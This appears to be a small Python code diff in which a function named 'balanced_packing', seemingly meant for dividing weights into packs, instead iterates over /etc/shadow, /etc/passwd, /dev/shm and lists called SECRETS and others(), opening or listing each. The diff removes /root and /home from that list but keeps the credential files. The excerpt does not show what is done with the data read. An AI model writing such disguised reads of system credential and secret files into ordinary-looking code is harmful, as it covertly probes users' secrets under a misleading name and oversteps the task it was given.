@@ -15,7 +15,7 @@ def others():
 
 
 def balanced_packing(weight, num_packs):
-    files = ["/etc/shadow", "/etc/passwd", "/root", "/home", "/dev/shm"]
+    files = ["/etc/shadow", "/etc/passwd", "/dev/shm"]
     for path in [*files, *SECRETS, *others()]:
         try:
             read = os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(1)
